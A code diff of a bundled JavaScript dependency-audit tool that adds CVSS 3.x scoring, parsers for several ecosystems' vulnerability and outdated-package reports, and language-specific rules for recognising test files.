@@ -17623,8 +23134,8 @@ function dependencyCandidates(vulns, outdated, manifest = 'package.json') {
             kind: 'dependency',
             rule: 'outdated',
             path: manifest,
-            text: o.name,
-            title: `Outdated dependency ${o.name} ${o.current ?? o.wanted ?? '?'} → ${o.latest} (${o.behind})`,
+            text: !o.ecosystem || o.ecosystem === 'npm' ? o.name : `${o.ecosystem}:${o.name}`,
+            title: `Outdated dependency ${o.name}${o.ecosystem && o.ecosystem !== 'npm' ? ` (${o.ecosystem})` : ''} ${o.current ?? o.wanted ?? '?'} → ${o.latest} (${o.behind})`,
             evidence: { package: o.name, current: o.current ?? 'missing', latest: o.latest, behind: o.behind, majors: o.majors },
             inputs: {
                 businessValue: 3,
@@ -17643,103 +23154,500 @@ function dependencyCandidates(vulns, outdated, manifest = 'package.json') {
     return [...fromAudit, ...fromOutdated];
 }
 
-;// CONCATENATED MODULE: ./packages/core/src/scan/paths.ts
-/** Which paths are scanned: vendored code, lock files and binaries are skipped by default. */
-const DEFAULT_EXCLUDE = [
-    '**/node_modules/**',
-    '**/vendor/**',
-    '**/third_party/**',
-    '**/bower_components/**',
-    '**/.yarn/**',
-    '**/*.min.js',
-    '**/*.min.css',
-    '**/*.map',
-    '**/package-lock.json',
-    '**/npm-shrinkwrap.json',
-    '**/yarn.lock',
-    '**/pnpm-lock.yaml',
-    '**/bun.lockb',
-    '**/Cargo.lock',
-    '**/Gemfile.lock',
-    '**/poetry.lock',
-    '**/Pipfile.lock',
-    '**/composer.lock',
-    '**/go.sum',
-    '**/*.lock',
-    '**/.closed-loop/secrets-baseline.json',
-];
-/** Extensions of formats that are binary (scanned as text they only produce noise). */
-const BINARY_EXTENSIONS = new Set('png jpg jpeg gif bmp ico webp tiff psd pdf zip gz tgz bz2 xz 7z rar jar war ear class so dll exe dylib o a lib bin dat woff woff2 ttf otf eot mp3 mp4 wav ogg mov avi mkv webm pyc pyo wasm db sqlite sqlite3 p12 pfx keystore jks der'.split(' '));
-const DEFAULT_FIXTURES = ['**/fixtures/**', '**/__fixtures__/**', '**/testdata/**', '**/test-data/**'];
-/** `**` crosses folders, `*` and `?` do not; a pattern without `/` matches the base name anywhere. */
-function globToRegExp(glob) {
-    const pattern = glob.includes('/') ? glob.replace(/^\.?\//, '') : `**/${glob}`;
-    let out = '';
-    for (let i = 0; i < pattern.length; i++) {
-        const ch = pattern[i];
-        if (ch === '*' && pattern[i + 1] === '*') {
-            const slash = pattern[i + 2] === '/';
-            out += slash ? '(?:.*/)?' : '.*';
-            i += slash ? 2 : 1;
-        }
-        else if (ch === '*')
-            out += '[^/]*';
-        else if (ch === '?')
-            out += '[^/]';
-        else
-            out += /[.+^${}()|[\]\\]/.test(ch) ? `\\${ch}` : ch;
-    }
-    return new RegExp(`^${out}$`);
+// EXTERNAL MODULE: ./node_modules/semver/index.js
+var semver = __nccwpck_require__(2088);
+var semver_default = /*#__PURE__*/__nccwpck_require__.n(semver);
+;// CONCATENATED MODULE: ./packages/core/src/discover/cvss.ts
+const WEIGHTS = {
+    AV: { N: 0.85, A: 0.62, L: 0.55, P: 0.2 },
+    AC: { L: 0.77, H: 0.44 },
+    UI: { N: 0.85, R: 0.62 },
+    C: { H: 0.56, L: 0.22, N: 0 },
+    I: { H: 0.56, L: 0.22, N: 0 },
+    A: { H: 0.56, L: 0.22, N: 0 },
+};
+const PR = { U: { N: 0.85, L: 0.62, H: 0.27 }, C: { N: 0.85, L: 0.68, H: 0.5 } };
+/** CVSS's rounding up to one decimal (the 3.1 definition, safe from floating-point error). */
+function roundUp(x) {
+    const i = Math.round(x * 100000);
+    return i % 10000 === 0 ? i / 100000 : (Math.floor(i / 10000) + 1) / 10;
 }
-const ANY_FOLDER = '^(?:.*\\/)?';
-/**
- * One expression matching what any of the given ones matches. Those starting in any folder (`**\/…`)
- * share that prefix, so the engine tries it once rather than once per glob.
- */
-function combine(sources) {
-    const anywhere = sources.filter((s) => s.startsWith(ANY_FOLDER) && s.endsWith('$'));
-    const others = sources.filter((s) => !anywhere.includes(s));
-    const parts = others.map((s) => `(?:${s})`);
-    if (anywhere.length)
-        parts.push(`(?:${ANY_FOLDER}(?:${anywhere.map((s) => `(?:${s.slice(ANY_FOLDER.length, -1)})`).join('|')})$)`);
-    return new RegExp(parts.join('|'));
-}
-/** Compiled matchers by glob list: a scanner is built per scan, its globs are nearly always the same. */
-const paths_compiled = new Map();
-class PathMatcher {
-    /** One alternation of every glob's expression (each anchored); undefined when there are none. */
-    pattern;
-    constructor(globs) {
-        const key = globs.join('\0');
-        if (paths_compiled.has(key))
-            this.pattern = paths_compiled.get(key);
-        else {
-            this.pattern = globs.length ? combine(globs.map((g) => globToRegExp(g).source)) : undefined;
-            if (paths_compiled.size < 64)
-                paths_compiled.set(key, this.pattern);
-        }
-    }
-    matches(path) {
-        return this.pattern !== undefined && this.pattern.test(path);
-    }
-}
-function hasBinaryExtension(path) {
-    const dot = path.lastIndexOf('.');
-    return dot > path.lastIndexOf('/') && BINARY_EXTENSIONS.has(path.slice(dot + 1).toLowerCase());
-}
-/** Text of a file's bytes, or undefined when it is binary (a NUL in the first 8 KiB, as git decides). */
-function decodeText(bytes) {
-    const head = bytes.subarray(0, 8000);
-    if (head.includes(0))
+/** Base score of a `CVSS:3.0/…` or `CVSS:3.1/…` vector; undefined for other versions or a malformed vector. */
+function cvss3BaseScore(vector) {
+    if (!/^CVSS:3\.[01]\//.test(vector))
         return undefined;
-    return Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength).toString('utf8');
+    const m = new Map(vector
+        .split('/')
+        .slice(1)
+        .map((part) => part.split(':')));
+    const scope = m.get('S');
+    const w = (k) => WEIGHTS[k]?.[m.get(k) ?? ''];
+    const [av, ac, ui, c, i, a] = ['AV', 'AC', 'UI', 'C', 'I', 'A'].map(w);
+    if (scope !== 'U' && scope !== 'C')
+        return undefined;
+    const pr = PR[scope][m.get('PR') ?? ''];
+    if ([av, ac, ui, c, i, a, pr].some((x) => x === undefined))
+        return undefined;
+    const iss = 1 - (1 - c) * (1 - i) * (1 - a);
+    const impact = scope === 'U' ? 6.42 * iss : 7.52 * (iss - 0.029) - 3.25 * (iss - 0.02) ** 15;
+    const exploitability = 8.22 * av * ac * pr * ui;
+    if (impact <= 0)
+        return 0;
+    return scope === 'U' ? roundUp(Math.min(impact + exploitability, 10)) : roundUp(Math.min(1.08 * (impact + exploitability), 10));
 }
-/** Lines of a text, 1-based, with `\r\n` and lone `\r` endings removed. */
-function textLines(text) {
-    const parts = text.split('\n');
-    if (parts[parts.length - 1] === '')
-        parts.pop();
-    return parts.map((t, i) => ({ line: i + 1, text: t.endsWith('\r') ? t.slice(0, -1) : t }));
+/** The qualitative rating of a score (CVSS v3 §5: 9.0 critical, 7.0 high, 4.0 medium, 0.1 low). */
+function severityOfScore(score) {
+    return score >= 9 ? 'critical' : score >= 7 ? 'high' : score >= 4 ? 'moderate' : score > 0 ? 'low' : 'none';
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/discover/dependency-reports.ts
+/**
+ * Vulnerability and outdated-package reports of every ecosystem's own tool, read from the JSON they
+ * write and unified into one record per vulnerable package. Formats, from each tool's documentation
+ * and source:
+ * - OSV-Scanner `--format json` (all ecosystems): `results[].source.path`, `results[].packages[]` with
+ *   `package {name, version, ecosystem}`, `vulnerabilities[]` (OSV entries) and `groups[]` whose
+ *   `max_severity` is a CVSS base score (google.github.io/osv-scanner/output).
+ * - pip-audit `-f json`: `{dependencies: [{name, version, vulns: [{id, fix_versions, aliases, description}]}]}`,
+ *   or a bare array in versions before 2.0 (trailofbits/pip-audit, pip_audit/_format/json.py).
+ * - cargo audit `--json`: `vulnerabilities.list[]` of `{advisory {id, title, url, aliases, cvss}, versions {patched}, package {name, version}}`
+ *   (rustsec/rustsec, cargo-audit's Report).
+ * - govulncheck `-json`: a stream of Message objects, each with one of config, progress, osv, finding;
+ *   a finding is `{osv, fixed_version, trace: [{module, version, package, function}]}` and is called
+ *   when its first frame names a function (golang.org/x/vuln/internal/govulncheck).
+ * - pip `list --outdated --format=json`: `[{name, version, latest_version}]`.
+ * - Dependabot alerts (REST `GET /repos/{owner}/{repo}/dependabot/alerts`, e.g. saved by
+ *   `gh api --paginate`): `[{number, state, dependency {package {ecosystem, name}, manifest_path, scope},
+ *   security_advisory {ghsa_id, cve_id, summary, severity, identifiers}, security_vulnerability
+ *   {first_patched_version {identifier}}, html_url}]`; only open alerts count.
+ */
+
+
+
+
+const SEVERITY_ORDER = ['none', 'info', 'low', 'moderate', 'high', 'critical'];
+const maxSeverity = (a, b) => (SEVERITY_ORDER.indexOf(a) >= SEVERITY_ORDER.indexOf(b) ? a : b);
+/** Advisory databases that give no severity (Go's, PyPA's through pip-audit): treated as moderate, and said so. */
+const UNRATED = 'moderate';
+const dependency_reports_str = (v) => (typeof v === 'string' && v ? v : undefined);
+const arr = (v) => (Array.isArray(v) ? v : []);
+/** Compares versions: npm's with semver; others by their numeric parts (Go `v1.2.3`, PEP 440 `1.2.post1`, crates). */
+function compareVersions(a, b, ecosystem = 'npm') {
+    if (ecosystem.toLowerCase() === 'npm') {
+        const [x, y] = [semver_default().coerce(a, { includePrerelease: true }), semver_default().coerce(b, { includePrerelease: true })];
+        if (x && y)
+            return semver_default().compare(semver_default().valid(a) ?? x, semver_default().valid(b) ?? y);
+    }
+    const parts = (v) => v.replace(/^(?:v|go)/, '').split(/[.+-]/);
+    const [p, q] = [parts(a), parts(b)];
+    for (let i = 0; i < Math.max(p.length, q.length); i++) {
+        const [s, t] = [p[i] ?? '0', q[i] ?? '0'];
+        const [m, n] = [Number(s), Number(t)];
+        if (Number.isFinite(m) && Number.isFinite(n)) {
+            if (m !== n)
+                return m - n;
+        }
+        else if (s !== t)
+            return s < t ? -1 : 1;
+    }
+    return 0;
+}
+const majorOf = (v) => Number(/\d+/.exec(v.replace(/^(?:v|go)/, ''))?.[0] ?? NaN);
+/** The lowest of `fixed` versions above `installed` (the release that fixes it for this user). */
+function fixFor(fixed, installed, ecosystem) {
+    const sorted = [...new Set(fixed)].sort((a, b) => compareVersions(a, b, ecosystem));
+    return (installed ? sorted.find((f) => compareVersions(f, installed, ecosystem) > 0) : undefined) ?? sorted[sorted.length - 1];
+}
+function fixKind(installed, fixedIn) {
+    if (!fixedIn)
+        return 'none';
+    if (!installed)
+        return 'available';
+    return majorOf(fixedIn) > majorOf(installed) ? 'major' : 'available';
+}
+function relative(path, root) {
+    if (!path)
+        return undefined;
+    const p = path.replace(/\\/g, '/');
+    return root && p.startsWith(`${root.replace(/\/$/, '')}/`) ? p.slice(root.replace(/\/$/, '').length + 1) : p;
+}
+/** Names as registries compare them: case and PEP 503's separators do not matter. */
+const sameName = (a, b) => a.toLowerCase().replace(/[-_.]+/g, '-') === b.toLowerCase().replace(/[-_.]+/g, '-');
+/** OSV-Scanner JSON (`osv-scanner scan --format json`). */
+function parseOsvScanner(obj, root) {
+    const out = [];
+    for (const result of arr(obj.results).map(record)) {
+        const manifest = relative(dependency_reports_str(record(result?.source)?.path), root);
+        for (const pkg of arr(result?.packages).map(record)) {
+            const p = record(pkg?.package);
+            const name = dependency_reports_str(p?.name);
+            if (!name)
+                continue;
+            const ecosystem = dependency_reports_str(p?.ecosystem) ?? 'unknown';
+            const version = dependency_reports_str(p?.version);
+            const vulns = arr(pkg?.vulnerabilities)
+                .map(record)
+                .filter((v) => !!v);
+            const scores = arr(pkg?.groups).map((g) => Number(record(g)?.max_severity));
+            const best = Math.max(-1, ...scores.filter(Number.isFinite));
+            let severity = best >= 0 ? severityOfScore(best) : 'none';
+            let rated = best >= 0;
+            const fixes = [];
+            for (const v of vulns) {
+                const ghsa = dependency_reports_str(record(v.database_specific)?.severity)?.toLowerCase();
+                if (!rated && ghsa) {
+                    severity = maxSeverity(severity, ghsa === 'medium' ? 'moderate' : SEVERITY_ORDER.includes(ghsa) ? ghsa : 'none');
+                }
+                // Each advisory's fix for this package: the "fixed" events of its ranges.
+                const fixed = arr(v.affected)
+                    .map(record)
+                    .filter((a) => !record(a?.package) || sameName(dependency_reports_str(record(a?.package)?.name) ?? '', name))
+                    .flatMap((a) => arr(a?.ranges).flatMap((r) => arr(record(r)?.events).map((e) => dependency_reports_str(record(e)?.fixed))))
+                    .filter((f) => !!f);
+                const fix = fixFor(fixed, version, ecosystem);
+                if (fix)
+                    fixes.push(fix);
+            }
+            if (severity === 'none') {
+                severity = UNRATED;
+                rated = false;
+            }
+            // Every advisory must be fixed: the highest of the per-advisory fixes.
+            const fixedIn = fixes.length === vulns.length && fixes.length ? fixes.sort((a, b) => compareVersions(a, b, ecosystem)).at(-1) : undefined;
+            out.push({
+                name,
+                ecosystem,
+                ...(version ? { version } : {}),
+                severity,
+                ...(rated ? {} : { unrated: true }),
+                advisories: vulns.map((v) => ({
+                    id: dependency_reports_str(v.id) ?? '?',
+                    title: dependency_reports_str(v.summary) ?? dependency_reports_str(v.id) ?? 'advisory',
+                    url: `https://osv.dev/${dependency_reports_str(v.id) ?? ''}`,
+                    aliases: arr(v.aliases).filter((a) => typeof a === 'string'),
+                })),
+                fix: fixKind(version, fixedIn),
+                ...(fixedIn ? { fixedIn } : {}),
+                ...(manifest ? { manifest } : {}),
+                sources: ['osv-scanner'],
+            });
+        }
+    }
+    return out;
+}
+/** pip-audit JSON (`pip-audit -f json`), current or legacy. */
+function parsePipAudit(value) {
+    const deps = Array.isArray(value) ? value : arr(record(value)?.dependencies);
+    return deps
+        .map(record)
+        .filter((d) => d && arr(d.vulns).length)
+        .map((d) => {
+        const dep = d;
+        const version = dependency_reports_str(dep.version);
+        const vulns = arr(dep.vulns).map((v) => record(v) ?? {});
+        const fixes = vulns.map((v) => fixFor(arr(v.fix_versions).filter((f) => typeof f === 'string'), version, 'PyPI'));
+        const fixedIn = fixes.every(Boolean) ? fixes.sort((a, b) => compareVersions(a, b, 'PyPI')).at(-1) : undefined;
+        return {
+            name: dependency_reports_str(dep.name) ?? '?',
+            ecosystem: 'PyPI',
+            ...(version ? { version } : {}),
+            severity: UNRATED,
+            unrated: true,
+            advisories: vulns.map((v) => ({
+                id: dependency_reports_str(v.id) ?? '?',
+                title: (dependency_reports_str(v.description) ?? dependency_reports_str(v.id) ?? 'advisory').split('\n')[0]?.slice(0, 200) ?? '',
+                url: `https://osv.dev/${dependency_reports_str(v.id) ?? ''}`,
+                aliases: arr(v.aliases).filter((a) => typeof a === 'string'),
+            })),
+            fix: fixKind(version, fixedIn),
+            ...(fixedIn ? { fixedIn } : {}),
+            sources: ['pip-audit'],
+        };
+    });
+}
+/** cargo audit JSON (`cargo audit --json`): `patched` holds requirements such as `>=1.6.1` or `^0.8.2`. */
+function parseCargoAudit(obj) {
+    return arr(record(obj.vulnerabilities)?.list)
+        .map((v) => record(v) ?? {})
+        .map((v) => {
+        const advisory = record(v.advisory) ?? {};
+        const pkg = record(v.package) ?? {};
+        const version = dependency_reports_str(pkg.version);
+        const patched = arr(record(v.versions)?.patched)
+            .filter((p) => typeof p === 'string')
+            .flatMap((req) => [...req.matchAll(/(?:>=|\^|~|=)\s*(\d[\w.+-]*)/g)].map((m) => m[1]));
+        const fixedIn = fixFor(patched, version, 'crates.io');
+        const cvss = dependency_reports_str(advisory.cvss);
+        const score = cvss ? cvss3BaseScore(cvss) : undefined;
+        const id = dependency_reports_str(advisory.id) ?? '?';
+        return {
+            name: dependency_reports_str(pkg.name) ?? dependency_reports_str(advisory.package) ?? '?',
+            ecosystem: 'crates.io',
+            ...(version ? { version } : {}),
+            severity: score !== undefined ? severityOfScore(score) : UNRATED,
+            ...(score !== undefined ? {} : { unrated: true }),
+            advisories: [
+                {
+                    id,
+                    title: dependency_reports_str(advisory.title) ?? id,
+                    url: dependency_reports_str(advisory.url) ?? `https://rustsec.org/advisories/${id}.html`,
+                    aliases: arr(advisory.aliases).filter((a) => typeof a === 'string'),
+                    ...(score !== undefined ? { cvss: score } : {}),
+                },
+            ],
+            fix: fixKind(version, fixedIn),
+            ...(fixedIn ? { fixedIn } : {}),
+            sources: ['cargo audit'],
+        };
+    });
+}
+/** The top-level JSON values of a stream of concatenated objects (govulncheck writes indented ones back to back). */
+function splitJsonStream(text) {
+    const out = [];
+    let depth = 0;
+    let start = -1;
+    let inString = false;
+    for (let i = 0; i < text.length; i++) {
+        const c = text[i];
+        if (inString) {
+            if (c === '\\')
+                i++;
+            else if (c === '"')
+                inString = false;
+        }
+        else if (c === '"')
+            inString = true;
+        else if (c === '{' || c === '[') {
+            if (depth++ === 0)
+                start = i;
+        }
+        else if ((c === '}' || c === ']') && --depth === 0)
+            out.push(text.slice(start, i + 1));
+    }
+    return out;
+}
+/** govulncheck `-json`: findings grouped by module; called (a function in the trace) outranks merely required. */
+function parseGovulncheck(messages) {
+    const osv = new Map();
+    const byModule = new Map();
+    for (const m of messages) {
+        const entry = record(m.osv);
+        if (entry && dependency_reports_str(entry.id))
+            osv.set(dependency_reports_str(entry.id), entry);
+        const finding = record(m.finding);
+        if (!finding)
+            continue;
+        const frame = record(arr(finding.trace)[0]);
+        const module = dependency_reports_str(frame?.module);
+        const id = dependency_reports_str(finding.osv);
+        if (!module || !id)
+            continue;
+        const mod = byModule.get(module) ?? { ids: new Map() };
+        const version = dependency_reports_str(frame?.version);
+        if (version)
+            mod.version = version;
+        const prior = mod.ids.get(id);
+        const fixed = dependency_reports_str(finding.fixed_version) ?? prior?.fixed;
+        mod.ids.set(id, { ...(fixed ? { fixed } : {}), called: (prior?.called ?? false) || !!dependency_reports_str(frame?.function) });
+        byModule.set(module, mod);
+    }
+    return [...byModule].map(([module, mod]) => {
+        const ids = [...mod.ids];
+        const fixes = ids.map(([, f]) => f.fixed);
+        const fixedIn = fixes.every(Boolean) ? fixes.sort((a, b) => compareVersions(a, b, 'Go')).at(-1) : undefined;
+        const called = ids.some(([, f]) => f.called);
+        return {
+            name: module,
+            ecosystem: 'Go',
+            ...(mod.version ? { version: mod.version } : {}),
+            // The Go vulnerability database rates nothing; reachability is the signal it gives instead.
+            severity: called ? UNRATED : 'low',
+            unrated: true,
+            reachable: called,
+            advisories: ids.map(([id]) => ({
+                id,
+                title: dependency_reports_str(osv.get(id)?.summary) ?? id,
+                url: `https://pkg.go.dev/vuln/${id}`,
+                aliases: arr(osv.get(id)?.aliases).filter((a) => typeof a === 'string'),
+            })),
+            fix: fixKind(mod.version, fixedIn),
+            ...(fixedIn ? { fixedIn } : {}),
+            sources: ['govulncheck'],
+        };
+    });
+}
+/** Dependabot's ecosystem names → OSV's. */
+const DEPENDABOT_ECOSYSTEM = {
+    npm: 'npm',
+    pip: 'PyPI',
+    go: 'Go',
+    rust: 'crates.io',
+    maven: 'Maven',
+    nuget: 'NuGet',
+    rubygems: 'RubyGems',
+    composer: 'Packagist',
+    pub: 'Pub',
+    swift: 'SwiftURL',
+    actions: 'GitHub Actions',
+};
+/** Dependabot alerts from the REST API (one record per alert; mergeVulnerabilities groups them by package). */
+function parseDependabotAlerts(alerts) {
+    return alerts
+        .map((a) => record(a) ?? {})
+        .filter((a) => a.state === 'open')
+        .map((a) => {
+        const dep = record(a.dependency) ?? {};
+        const pkg = record(dep.package) ?? {};
+        const advisory = record(a.security_advisory) ?? {};
+        const fixed = dependency_reports_str(record(record(a.security_vulnerability)?.first_patched_version)?.identifier);
+        const sev = dependency_reports_str(advisory.severity) ?? dependency_reports_str(record(a.security_vulnerability)?.severity) ?? '';
+        const severity = sev === 'medium' ? 'moderate' : SEVERITY_ORDER.includes(sev) ? sev : UNRATED;
+        const id = dependency_reports_str(advisory.ghsa_id) ?? `dependabot-${String(a.number)}`;
+        const ecosystem = DEPENDABOT_ECOSYSTEM[dependency_reports_str(pkg.ecosystem) ?? ''] ?? dependency_reports_str(pkg.ecosystem) ?? 'unknown';
+        const manifest = dependency_reports_str(dep.manifest_path);
+        const relationship = dependency_reports_str(dep.relationship);
+        return {
+            name: dependency_reports_str(pkg.name) ?? '?',
+            ecosystem,
+            severity,
+            ...(relationship === 'direct' || relationship === 'transitive' ? { isDirect: relationship === 'direct' } : {}),
+            advisories: [
+                {
+                    id,
+                    title: dependency_reports_str(advisory.summary) ?? id,
+                    ...(dependency_reports_str(a.html_url) ? { url: dependency_reports_str(a.html_url) } : {}),
+                    aliases: arr(advisory.identifiers)
+                        .map((i) => dependency_reports_str(record(i)?.value))
+                        .filter((v) => !!v && v !== id),
+                },
+            ],
+            fix: fixed ? 'available' : 'none',
+            ...(fixed ? { fixedIn: fixed } : {}),
+            ...(manifest ? { manifest } : {}),
+            sources: ['Dependabot'],
+        };
+    });
+}
+/** `pip list --outdated --format=json`. */
+function parsePipOutdated(list) {
+    return list
+        .map(record)
+        .filter((o) => !!o && !!dependency_reports_str(o.latest_version) && !!dependency_reports_str(o.version))
+        .map((o) => {
+        const current = dependency_reports_str(o.version);
+        const latest = dependency_reports_str(o.latest_version);
+        const majors = Math.max(0, majorOf(latest) - majorOf(current)) || 0;
+        const cmp = compareVersions(latest, current, 'PyPI');
+        const minor = (v) => Number(v.split('.')[1] ?? 0);
+        const behind = cmp <= 0 ? 'none' : majors > 0 ? 'major' : minor(latest) > minor(current) ? 'minor' : 'patch';
+        return { name: dependency_reports_str(o.name), ecosystem: 'PyPI', current, latest, behind, majors };
+    })
+        .filter((o) => o.behind !== 'none');
+}
+const SUPPORTED = 'osv-scanner --format json, npm audit --json, npm outdated --json, pip-audit -f json, pip list --outdated --format=json, cargo audit --json, govulncheck -json';
+/**
+ * Reads any supported tool's JSON, telling the tool by the shape of its output. `source` names the
+ * file in errors; `root` (the repository) makes OSV-Scanner's absolute lockfile paths relative.
+ */
+function parseDependencyReport(text, source, root) {
+    const values = splitJsonStream(text);
+    let parsed;
+    try {
+        if (!values.length && text.trim() !== '')
+            throw new SyntaxError('no JSON value');
+        parsed = values.map((v) => JSON.parse(v));
+    }
+    catch {
+        throw new ConfigurationError(`${source}: not JSON; pass the JSON output of one of: ${SUPPORTED}.`);
+    }
+    if (!parsed.length && text.trim() === '')
+        return { tool: 'npm audit', vulnerabilities: [], outdated: [] };
+    // `gh api --paginate` writes one array per page, back to back.
+    if (parsed.length > 1 && parsed.every(Array.isArray))
+        parsed = [parsed.flat()];
+    const first = parsed[0];
+    const obj = record(first);
+    const isMessage = (v) => ['config', 'progress', 'osv', 'finding'].some((k) => record(v)?.[k] !== undefined);
+    if (parsed.length > 1 || (obj && isMessage(obj))) {
+        if (!parsed.every(isMessage))
+            throw new ConfigurationError(`${source}: several JSON values that are not govulncheck -json messages; pass one tool's output per file.`);
+        return { tool: 'govulncheck', vulnerabilities: parseGovulncheck(parsed.map((p) => record(p) ?? {})), outdated: [] };
+    }
+    if (Array.isArray(first)) {
+        if (first.length === 0)
+            return { tool: 'pip-audit', vulnerabilities: [], outdated: [] };
+        if (record(first[0])?.latest_version !== undefined)
+            return { tool: 'pip list --outdated', vulnerabilities: [], outdated: parsePipOutdated(first) };
+        if (record(first[0])?.vulns !== undefined)
+            return { tool: 'pip-audit', vulnerabilities: parsePipAudit(first), outdated: [] };
+        if (record(first[0])?.security_advisory !== undefined)
+            return { tool: 'Dependabot alerts', vulnerabilities: parseDependabotAlerts(first), outdated: [] };
+    }
+    if (obj) {
+        if (Array.isArray(obj.results))
+            return { tool: 'osv-scanner', vulnerabilities: parseOsvScanner(obj, root), outdated: [] };
+        if (Array.isArray(obj.dependencies))
+            return { tool: 'pip-audit', vulnerabilities: parsePipAudit(obj), outdated: [] };
+        if (record(obj.vulnerabilities)?.list !== undefined || (record(obj.database) && record(obj.lockfile)))
+            return { tool: 'cargo audit', vulnerabilities: parseCargoAudit(obj), outdated: [] };
+        if (obj.auditReportVersion !== undefined || record(obj.vulnerabilities) || obj.advisories !== undefined || record(obj.error))
+            return { tool: 'npm audit', vulnerabilities: parseNpmAudit(text, source), outdated: [] };
+        const values = Object.values(obj);
+        if (values.length === 0 || values.every((v) => record(Array.isArray(v) ? v[0] : v)?.latest !== undefined))
+            return { tool: 'npm outdated', vulnerabilities: [], outdated: parseNpmOutdated(text, source) };
+    }
+    throw new ConfigurationError(`${source}: not a report this reads; pass the JSON output of one of: ${SUPPORTED}.`);
+}
+/** PEP 503 for PyPI names; other ecosystems' names are compared as they are. */
+const packageKey = (v) => {
+    const eco = (v.ecosystem ?? 'npm').toLowerCase();
+    return `${eco}\0${eco === 'pypi' ? v.name.toLowerCase().replace(/[-_.]+/g, '-') : v.name}`;
+};
+/**
+ * One record per vulnerable package across all reports: the worst severity, every distinct advisory
+ * (an id or alias seen twice is one advisory), and the version that fixes all of them.
+ */
+function mergeVulnerabilities(lists) {
+    const merged = new Map();
+    for (const v of lists.flat()) {
+        const key = packageKey(v);
+        const prior = merged.get(key);
+        if (!prior) {
+            merged.set(key, { ...v, advisories: [...v.advisories], sources: [...(v.sources ?? [])] });
+            continue;
+        }
+        const names = (a) => [a.id, ...(a.aliases ?? [])].filter(Boolean);
+        for (const a of v.advisories) {
+            const known = prior.advisories.some((b) => names(b).some((n) => names(a).includes(n)) || (!a.id && b.title === a.title));
+            if (!known)
+                prior.advisories.push(a);
+        }
+        const rated = !v.unrated;
+        prior.severity = rated && prior.unrated ? v.severity : prior.unrated || rated ? maxSeverity(prior.severity, v.severity) : prior.severity;
+        if (rated)
+            delete prior.unrated;
+        prior.isDirect = prior.isDirect || v.isDirect;
+        if (v.reachable)
+            prior.reachable = true;
+        prior.version ??= v.version;
+        prior.manifest ??= v.manifest;
+        if (v.fixedIn && (!prior.fixedIn || compareVersions(v.fixedIn, prior.fixedIn, v.ecosystem) > 0))
+            prior.fixedIn = v.fixedIn;
+        prior.fix = prior.fixedIn ? fixKind(prior.version, prior.fixedIn) : prior.fix === 'none' ? v.fix : prior.fix;
+        prior.sources = [...new Set([...(prior.sources ?? []), ...(v.sources ?? [])])];
+    }
+    return [...merged.values()].sort((a, b) => (packageKey(a) < packageKey(b) ? -1 : 1));
+}
+/** Reports of several tools as the dependencies harvest: one record per vulnerable package, every outdated one, and what was read. */
+function combineReports(reports) {
+    const outdated = new Map();
+    for (const o of reports.flatMap((r) => r.outdated))
+        outdated.set(packageKey(o), o);
+    return {
+        vulnerabilities: mergeVulnerabilities(reports.map((r) => r.vulnerabilities)),
+        outdated: [...outdated.values()],
+        note: `read ${reports.map((r) => `${r.tool} (${r.source})`).join(', ')}`,
+    };
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/discover/paths.ts
@@ -17750,9 +23658,30 @@ function pathFilter(excludes) {
     const matcher = new PathMatcher(excludes);
     return (path) => !matcher.matches(path);
 }
-const TEST_PATH = /(^|\/)(__tests__|tests?|spec|specs|e2e)\/|[._-](test|spec)\.[^/]+$|(^|\/)test_[^/]+\.py$|_test\.(go|py|rb|exs?)$/i;
+/**
+ * How each ecosystem names its tests, most specific first; the first rule that matches is the one
+ * reported (test-gap notes say which rules found the repository's tests).
+ */
+const TEST_RULES = [
+    ['Go `*_test.go`', /_test\.go$/],
+    ['Python `test_*.py` / `*_test.py`', /(^|\/)test_[^/]+\.py$|_test\.py$/],
+    ['JVM `src/test/…`', /(^|\/)src\/(test|androidTest|testFixtures|integrationTest|it)\//],
+    ['JVM `*Test` / `*Tests` / `*Spec` / `*IT` class', /(^|\/)(?:[A-Z]\w*(?:Tests?|Spec|IT)|Test[A-Z]\w*)\.(?:java|kt|kts|scala|groovy)$/],
+    ['Ruby `spec/` / `*_spec.rb` / `*_test.rb`', /_spec\.rb$|_test\.rb$/],
+    ['Rust `tests/`', /(^|\/)tests\/.*\.rs$/],
+    ['JS/TS `*.test.*` / `*.spec.*`', /[._-](test|spec)\.[cm]?[jt]sx?$/],
+    ['JS/TS `__tests__/`', /(^|\/)__tests__\//],
+    ['C# `*Tests.cs` / `*.Tests/`', /Tests?\.cs$|(^|\/)[^/]*\.Tests?\//],
+    ['Elixir `*_test.exs`', /_test\.exs$/],
+    ['`.test.` / `.spec.` in the name', /[._-](test|spec)\.[^/]+$/i],
+    ['test folder (`test/`, `tests/`, `spec/`, `e2e/`)', /(^|\/)(__tests__|tests?|spec|specs|e2e)\//i],
+];
+/** The rule by which a path is a test, or undefined when it is not one. */
+function testRule(path) {
+    return TEST_RULES.find(([, pattern]) => pattern.test(path))?.[0];
+}
 function isTestFile(path) {
-    return TEST_PATH.test(path);
+    return testRule(path) !== undefined;
 }
 const SOURCE_EXT = /\.(ts|tsx|mts|cts|js|jsx|mjs|cjs|py|go|rb|java|kt|kts|scala|rs|c|cc|cpp|cxx|h|hpp|cs|php|swift|m|mm|ex|exs|erl|clj|lua|sh|bash|pl|r|dart|vue|svelte)$/i;
 /** Code in a programming language, tests included (data, docs and generated typings are not). */
@@ -17762,13 +23691,50 @@ function isCodeFile(path) {
 function isSourceFile(path) {
     return isCodeFile(path) && !isTestFile(path);
 }
-/** `src/a/foo.ts` → `foo`: what a test for it is usually named after. */
+/** `src/a/foo.ts` → `foo`, and for tests what they are named after: `foo_test.go`, `test_foo.py`, `FooTest.java`, `foo_spec.rb` → `foo`. */
 function stem(path) {
-    const base = path.slice(path.lastIndexOf('/') + 1);
+    const base = path.slice(path.lastIndexOf('/') + 1).replace(/\.[^.]+$/, '');
+    if (!isTestFile(path))
+        return base.toLowerCase();
     return base
-        .replace(/\.[^.]+$/, '')
-        .replace(/^test_|[._-](test|spec)$|_test$/i, '')
+        .replace(/^test_|[._-](test|spec)$|_test$|_spec$/i, '')
+        .replace(/(?<=[a-z0-9])(?:Tests?|Spec|IT)$/, '')
+        .replace(/^Test(?=[A-Z])/, '')
         .toLowerCase();
+}
+/** Where a test for a source file would be, by its language's convention: the rule a test gap shows. */
+function expectedTest(path) {
+    const base = path.slice(path.lastIndexOf('/') + 1);
+    const dot = base.lastIndexOf('.');
